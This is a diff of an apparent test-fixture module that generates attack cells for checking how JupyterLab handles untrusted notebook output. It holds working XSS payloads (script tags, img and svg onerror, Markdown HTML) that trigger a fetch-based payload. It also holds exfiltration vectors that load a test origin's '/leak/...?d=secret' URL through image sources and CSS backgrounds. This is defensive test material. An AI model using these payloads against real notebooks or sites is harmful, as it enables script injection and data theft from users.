@@ -11,11 +11,16 @@ Two kinds of attack, each a cell of sandboxed code that only calls ``display``:
   Evidence: the request arrives.
 
 ``TAG`` names the notebook (e.g. ``kernel-trust``), so each notebook's evidence is its own.
+
+SVG attacks are inline ``<svg>`` in HTML: JupyterLab 4 shows an ``image/svg+xml`` output as an
+``<img src="data:...">``, where neither scripts nor external loads run even when trusted (seen
+here), so that MIME type is checked by the policy's unit tests only. ``<svg onload>`` inserted
+into the page did not fire under ``trust`` either; ``<svg><script>`` and ``<image onerror>`` did.
 """
 
 from __future__ import annotations
 
-IMPORTS = "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
+IMPORTS = "from IPython.display import HTML, Javascript, Markdown, display\n"
 
 
 def payload(tag: str, name: str) -> str:
@@ -27,6 +32,11 @@ def payload(tag: str, name: str) -> str:
             "body:JSON.stringify({type:'file',format:'text',content:'x'})})})()")
 
 
+def show(kind: str, value: str) -> str:
+    """The cell source ``display(KIND(VALUE))`` (IPython.display's HTML, Markdown, Javascript)."""
+    return IMPORTS + f"display({kind}({value!r}))"
+
+
 def script_attacks(tag: str, widgets: bool = True) -> dict[str, str]:
     """``{name: cell source}`` of the attacks that try to run :func:`payload`.
     ``widgets``: include the ``ipywidgets.HTML`` one (needs comms from the sandbox)."""
@@ -34,19 +44,19 @@ def script_attacks(tag: str, widgets: bool = True) -> dict[str, str]:
         return payload(tag, name)
 
     cells = {
-        "javascript": "display(Javascript(%r))" % js("javascript"),
-        "script-tag": "display(HTML(%r))" % f"<p>chart</p><script>{js('script-tag')}</script>",
-        "img-onerror": "display(HTML(%r))" % f'<img src="x" onerror="{js("img-onerror")}">',
-        "svg-script": "display(HTML(%r))" % f'<svg width="20" height="20"><script>{js("svg-script")}</script>'
-                                             '<circle cx="10" cy="10" r="8"/></svg>',
-        "svg-image-onerror": "display(HTML(%r))" % f'<svg width="20" height="20"><image href="x" '
-                                                    f'onerror="{js("svg-image-onerror")}"/></svg>',
-        "markdown-img": "display(Markdown(%r))" % f'# Report\n\n<img src="x" onerror="{js("markdown-img")}">',
+        "javascript": show("Javascript", js("javascript")),
+        "script-tag": show("HTML", f"<p>chart</p><script>{js('script-tag')}</script>"),
+        "img-onerror": show("HTML", f'<img src="x" onerror="{js("img-onerror")}">'),
+        "svg-script": show("HTML", f'<svg width="20" height="20"><script>{js("svg-script")}</script>'
+                                   '<circle cx="10" cy="10" r="8"/></svg>'),
+        "svg-image-onerror": show("HTML", f'<svg width="20" height="20"><image href="x" '
+                                          f'onerror="{js("svg-image-onerror")}"/></svg>'),
+        "markdown-img": show("Markdown", f'# Report\n\n<img src="x" onerror="{js("markdown-img")}">'),
     }
     if widgets:
-        cells["widget-html"] = ("import ipywidgets\nipywidgets.HTML(value=%r)"
-                                % f'<img src="x" onerror="{js("widget-html")}">')
-    return {name: IMPORTS + source for name, source in cells.items()}
+        value = f'<img src="x" onerror="{js("widget-html")}">'
+        cells["widget-html"] = f"import ipywidgets\nipywidgets.HTML(value={value!r})"
+    return cells
 
 
 def exfiltration_attacks(tag: str, origin: str) -> dict[str, str]:
@@ -56,31 +66,32 @@ def exfiltration_attacks(tag: str, origin: str) -> dict[str, str]:
         return f"{origin}/leak/{tag}/{name}?d=secret"
 
     box = "width:40px;height:20px;border:1px solid gray"
-    cells = {
-        "img-src": "display(HTML(%r))" % f'<img src="{url("img-src")}" width="8" height="8">',
-        "img-srcset": "display(HTML(%r))" % f'<img srcset="{url("img-srcset")} 1x" width="8" height="8">',
-        "markdown-image": "display(Markdown(%r))" % f"A chart: ![chart]({url('markdown-image')})",
-        "css-style-attribute": "display(HTML(%r))" % f'<div style="{box};background:url({url("css-style-attribute")})">bg</div>',
-        "css-style-block": "display(HTML(%r))" % (f"<style>.leak-{tag}{{background-image:url({url('css-style-block')})}}"
-                                                  f'</style><div class="leak-{tag}" style="{box}">bg</div>'),
+    return {
+        "img-src": show("HTML", f'<img src="{url("img-src")}" width="8" height="8">'),
+        "img-srcset": show("HTML", f'<img srcset="{url("img-srcset")} 1x" width="8" height="8">'),
+        "markdown-image": show("Markdown", f"A chart: ![chart]({url('markdown-image')})"),
+        "css-style-attribute": show("HTML", f'<div style="{box};background:url({url("css-style-attribute")})">'
+                                            "bg</div>"),
+        "css-style-block": show("HTML", f"<style>.leak-{tag}{{background-image:url({url('css-style-block')})}}"
+                                        f'</style><div class="leak-{tag}" style="{box}">bg</div>'),
     }
-    return {name: IMPORTS + source for name, source in cells.items()}
 
 
 CHART = ('<canvas id="chart" width="120" height="60"></canvas><script>'
          'var g=document.getElementById("chart").getContext("2d");g.fillStyle="rgb(200,30,30)";'
          'g.fillRect(0,0,120,60);'
-         'var ns="http://www.w3.org/2000/svg",s=document.createElementNS(ns,"svg"),r=document.createElementNS(ns,"rect");'
+         'var ns="http://www.w3.org/2000/svg",s=document.createElementNS(ns,"svg"),'
+         'r=document.createElementNS(ns,"rect");'
          's.id="drawn";s.setAttribute("width","60");s.setAttribute("height","20");'
          'r.setAttribute("width","50");r.setAttribute("height","10");s.appendChild(r);document.body.appendChild(s);'
          '</script>')
 """A script-driven chart: a script fills a canvas red and adds an ``<svg id="drawn">``."""
-CHART_CELL = IMPORTS + "display(HTML(%r))" % CHART
+CHART_CELL = show("HTML", CHART)
 
 ORDINARY = {
     "table": "import pandas as pd\npd.DataFrame({'city': ['Oslo', 'Lima', 'Pune'], 'temp': [4, 19, 31]})",
     "figure": "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()",
-    "bold": IMPORTS + "display(HTML('<b>bold</b> and plain'))",
+    "bold": show("HTML", "<b>bold</b> and plain"),
 }
 """Outputs a person expects to see: ``{name: cell source}``."""
 
